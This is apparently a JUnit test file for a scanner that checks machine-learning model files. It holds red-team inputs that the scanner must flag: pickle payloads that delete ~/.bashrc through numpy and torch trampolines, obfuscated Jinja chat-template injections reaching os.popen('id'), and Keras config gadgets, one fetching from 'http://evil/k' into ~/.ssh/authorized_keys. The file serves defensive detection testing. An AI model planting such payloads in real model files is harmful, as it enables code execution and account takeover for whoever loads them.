package dev.aiprov.scanner;

import dev.aiprov.scanner.formats.internal.ChatTemplateRules;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.List;

import static dev.aiprov.scanner.HardeningTest.all;
import static dev.aiprov.scanner.HardeningTest.ascii;
import static dev.aiprov.scanner.HardeningTest.assertHigh;
import static dev.aiprov.scanner.HardeningTest.scan;
import static dev.aiprov.scanner.HardeningTest.worst;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Red-team probes against issue 12 that still passed below {@code high} after the hardening
 * (inputs generated inline; the full probe list is in notes/redteam.md). Each hostile input runs
 * its payload in a real loader; each benign one is what numpy or a real chat template writes.
 */
class RedTeamTest {

    // ---- pickle: trampolines whose function argument is not the first ----

    @Test
    void numpyRandomStateCtorCallsItsSecondArgument() {
        // numpy.random._pickle.__randomstate_ctor(name, ctor) runs ctor(name): Path.unlink('/home/u/.bashrc')
        byte[] p = ascii("\u0080\u0004cnumpy.random._pickle\n__randomstate_ctor\n(S'/home/u/.bashrc'\n"
                + "cpathlib\nPath.unlink\ntR.");
        assertHigh(scan("model.pkl", p));
    }

    @Test
    void numpyGeneratorCtorWithAComputedCallableIsHigh() {
        byte[] p = ascii("\u0080\u0002cnumpy.random._pickle\n__generator_ctor\n(S'id'\n"
                + "ccollections\nOrderedDict\n(tRtR.");
        assertHigh(scan("model.pkl", p));
    }

    @Test
    void aRealNumpyRandomStatePickleStaysBelowHigh() {
        // the prefix numpy 1.24 writes for pickle.dumps(RandomState(0), protocol=2), with an empty state
        byte[] p = ascii("\u0080\u0002cnumpy.random._pickle\n__randomstate_ctor\nq\u0000X\u0007\u0000\u0000\u0000MT19937"
                + "q\u0001cnumpy.random._pickle\n__bit_generator_ctor\nq\u0002\u0086q\u0003Rq\u0004}q\u0005b.");
        List<FileResult> r = scan("rng.pkl", p);
        Severity w = worst(r);
        assertTrue(w == null || !w.atLeast(Severity.HIGH), all(r).toString());
    }

    // ---- pickle: an allowlisted callable that imports a dotted name ----

    @Test
    void torchUtilsTypeImportsTheNameItIsGiven() {
        // torch._utils._type(self, 'antigravity') runs _import_dotted_name('antigravity') before anything else
        byte[] p = ascii("\u0080\u0002ctorch._utils\n_type\n(NS'antigravity'\ntR.");
        assertHigh(scan("model.pkl", p));
    }

    // ---- GGUF chat templates: attribute names built at render time ----

    static byte[] gguf(String template) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteBuffer b = ByteBuffer.allocate(24).order(ByteOrder.LITTLE_ENDIAN);
        b.put(ascii("GGUF")).putInt(3).putLong(0).putLong(2);
        out.writeBytes(b.array());
        kv(out, "general.architecture", "llama");
        kv(out, "tokenizer.chat_template", template);
        return out.toByteArray();
    }

    private static void kv(ByteArrayOutputStream out, String key, String value) {
        byte[] k = key.getBytes(StandardCharsets.UTF_8);
        byte[] v = value.getBytes(StandardCharsets.UTF_8);
        ByteBuffer b = ByteBuffer.allocate(8 + k.length + 4 + 8 + v.length).order(ByteOrder.LITTLE_ENDIAN);
        b.putLong(k.length).put(k).putInt(8).putLong(v.length).put(v);
        out.writeBytes(b.array());
    }

    @ParameterizedTest
    @ValueSource(strings = {
            // '_'*2 ~ 'class' ~ '_'*2 as a subscript: Jinja's getitem falls back to getattr
            "{% set u = '_'*2 %}{{ ()[u~'class'~u][u~'base'~u][u~'subclasses'~u]()[137][u~'init'~u]"
                    + "[u~'globals'~u]['o'~'s']['po'~'pen']('id')['read']() }}",
            // adjacent string literals are concatenated by Jinja's parser
            "{{ ()['__cla' 'ss__']['__ba' 'se__']['__subcl' 'asses__']()[137]['__in' 'it__']['__glo' 'bals__'] }}",
            // map(attribute=...) walks attributes through environment.getitem
            "{% for m in messages %}{{ [m]|map(attribute=['_','_','class','_','_']|join)|list }}{% endfor %}",
            // a reversed literal, held in a variable
            "{% set n = 'ssalc'|reverse %}{% set k = '_'+'_' ~ n ~ '__' %}{{ ()[k] }}",
            // a key built from variables only
            "{% set u = ['_','_']|join %}{% set c = 'class' %}{{ ()[u~c~u] }}",
            // upper-case hex and named escapes
            "{{ ()['\\x5F\\x5Fclass\\x5F\\x5F'] }}",
            "{{ ()['\\N{LOW LINE}\\N{LOW LINE}class\\N{LOW LINE}\\N{LOW LINE}'] }}",
            "{% set k = '%c%cclass%c%c'|format(95,95,95,95) %}{{ ()[k] }}",
            "{{ [()]|selectattr(k)|list }}"})
    void ssti_withoutADunderInTheTextIsHigh(String template) {
        assertHigh(scan("model.gguf", gguf(template)));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "{% for message in messages %}{% if message['role'] in ['user', 'system'] %}[INST] {{ message['content'] }} [/INST]"
                    + "{% else %}{{ message['content'] ~ eos_token }}{% endif %}{% endfor %}",
            "{% set loop_messages = messages[1:] %}{% set ns = namespace(idx=0) %}{% set ns.idx = ns.idx + 1 %}"
                    + "{{ loop_messages[ns.idx]['content'] | trim }}{{ messages[messages|length - 1]['role'] }}",
            "{{ messages|map(attribute='content')|join('\\n') }}{% for t in tools|selectattr('type', 'equalto', 'function') %}"
                    + "{{ '[' ~ t.function.name ~ ']' }}{% endfor %}{{ '<|im_start|>' + message['role'] + '\\n' }}"})
    void ordinaryTemplatesStayClean(String template) {
        List<String> rules = ChatTemplateRules.check(template).stream().map(h -> h.rule().id()).toList();
        assertEquals(List.of(), rules);
    }

    // ---- Keras: gadgets inside the modules Keras trusts ----

    static byte[] keras(String layer) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(bytes)) {
            z.putNextEntry(new ZipEntry("config.json"));
            z.write(("{\"module\": \"keras\", \"class_name\": \"Sequential\", \"config\": {\"layers\": [" + layer + "]}}")
                    .getBytes(StandardCharsets.UTF_8));
            z.putNextEntry(new ZipEntry("metadata.json"));
            z.write("{\"keras_version\": \"3.8.0\"}".getBytes(StandardCharsets.UTF_8));
        }
        return bytes.toByteArray();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            // CVE-2025-8747: keras.utils.get_file resolved by module and name, downloads into any directory
            "{\"module\": \"keras.utils\", \"class_name\": \"get_file\", \"config\": {\"fname\": \"authorized_keys\","
                    + " \"origin\": \"http://evil/k\", \"cache_dir\": \"/home/u/.ssh\"}, \"registered_name\": \"get_file\"}",
            // marshal-loads a function
            "{\"module\": \"keras.src.utils.python_utils\", \"class_name\": \"function\", \"config\": \"func_load\","
                    + " \"registered_name\": \"function\"}",
            "{\"module\": \"tensorflow.io\", \"class_name\": \"write_file\", \"config\": {}, \"registered_name\": \"write_file\"}",
            "{\"module\": \"keras.layers\", \"class_name\": \"Dense\", \"config\": {\"units\": 1, \"activation\":"
                    + " {\"module\": \"tensorflow\", \"class_name\": \"function\", \"config\": \"py_function\","
                    + " \"registered_name\": \"function\"}}}",
            "{\"module\": \"keras.models\", \"class_name\": \"function\", \"config\": \"load_model\", \"registered_name\": \"function\"}"})
    void kerasAndTensorflowGadgetsAreNotSafeForTheirModule(String layer) throws IOException {
        assertHigh(scan("model.keras", keras(layer)));
    }

    @Test
    void anOrdinaryKerasLayerStaysBelowHigh() throws IOException {
        List<FileResult> r = scan("model.keras", keras("{\"module\": \"keras.layers\", \"class_name\": \"Dense\","
                + " \"config\": {\"units\": 1, \"activation\": \"relu\", \"kernel_initializer\": {\"module\":"
                + " \"keras.initializers\", \"class_name\": \"GlorotUniform\", \"config\": {}}}, \"registered_name\": null}"));
        Severity w = worst(r);
        assertTrue(w == null || !w.atLeast(Severity.HIGH), all(r).toString());
    }

    // ---- zip members compressed with methods Python's zipfile reads (bzip2, LZMA) ----

    static byte[] fixture(String name) throws IOException {
        try (var in = RedTeamTest.class.getResourceAsStream("/fixtures/formats/redteam/" + name)) {
            return in.readAllBytes();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"bzip2_lambda.keras", "lzma_lambda.keras", "bzip2_pickle.zip", "lzma_pickle.zip"})
    void payloadsInBzip2AndLzmaMembersAreFound(String name) throws IOException {
        List<FileResult> r = scan(name, fixture(name));
        assertHigh(r);
        assertTrue(all(r).stream().anyMatch(f -> f.severity() == Severity.CRITICAL), all(r).toString());
    }

    @ParameterizedTest
    @ValueSource(strings = {"bzip2_benign.keras", "lzma_benign.keras"})
    void benignBzip2AndLzmaMembersAreJudgedAndBelowHigh(String name) throws IOException {
        List<FileResult> r = scan(name, fixture(name));
        Severity w = worst(r);
        assertTrue(w == null || !w.atLeast(Severity.HIGH), all(r).toString());
        assertTrue(r.stream().allMatch(FileResult::judged), all(r).toString());
    }
}
